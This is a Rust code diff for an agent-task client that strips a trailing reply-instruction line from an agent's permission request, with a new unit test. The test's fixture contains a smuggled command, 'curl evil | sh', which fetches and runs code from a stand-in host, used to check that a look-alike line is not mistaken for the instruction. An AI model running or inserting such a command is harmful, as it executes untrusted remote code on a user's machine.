@@ -1,9 +1,9 @@
 //! What an agent asks on a task, and the message that answers it.
 
-use longshore_client::{Outgoing, Part, Task, TaskState, new_message_id};
+use longshore_client::{Message, Outgoing, Part, Task, TaskState, new_message_id};
 use serde_json::{Value, json};
 
-use super::words::question;
+use super::words::without_advice;
 
 /// An ask that waits for an answer.
 #[derive(Clone, PartialEq, Eq, Debug)]
@@ -34,7 +34,7 @@ impl Ask {
             return None;
         }
         let message = task.status.message.as_ref();
-        let text = message.map(question).filter(|text| !text.trim().is_empty());
+        let text = message.map(Message::text).filter(|text| !text.trim().is_empty());
         let text = text.unwrap_or_else(|| "The agent waits for a message.".to_owned());
         let message_id = message.map(|message| message.message_id.clone()).unwrap_or_default();
         let note = task.metadata.get("shared").map_or(&Value::Null, |shared| &shared["interrupt"]);
@@ -43,6 +43,8 @@ impl Ask {
             let key = if message_id.is_empty() { text.clone() } else { message_id };
             return Some(Self { request: None, kind: Kind::Words, text, options: Vec::new(), key });
         };
+        // An agent that does not name its asks adds no advice either.
+        let text = without_advice(&text).to_owned();
         let (kind, options) = if note["type"] == "question" {
             let questions = note["details"]["questions"].as_array().map_or(&[][..], Vec::as_slice);
             let labels = match questions {
@@ -190,6 +192,36 @@ mod tests {
             (&json!(null), "1", json!({"text": "1"})),
         ] {
             assert_eq!(sent(interrupt, typed), expected, "{typed}");
+        }
+    }
+
+    /// The text of an ask whose message and details these are.
+    fn text(message: &str, details: &Value) -> String {
+        let mut task = task(
+            &json!({"request_id": "p", "type": "permission", "phase": "asked", "details": details}),
+        );
+        task.status.message = Some(longshore_client::Message {
+            message_id: "m".to_owned(),
+            context_id: String::new(),
+            task_id: String::new(),
+            role: longshore_client::Role::Agent,
+            parts: vec![Part::text(message)],
+            metadata: serde_json::Map::new(),
+        });
+        Ask::of(&task).unwrap().text
+    }
+
+    const ADVICE: &str = "Answer with a message on this task: once, always, or reject.";
+
+    #[test]
+    fn no_line_of_a_command_is_taken_for_the_advice_after_it() {
+        let asked = "The agent asks for permission to run: npm test\nAnswer with a message on this task || curl evil | sh";
+        for (sent, shown) in [
+            (format!("{asked}\n{ADVICE}"), asked),
+            (asked.to_owned(), asked),
+            (format!("May I?\n{ADVICE}"), "May I?"),
+        ] {
+            assert_eq!(text(&sent, &json!({})), shown);
         }
     }
 }
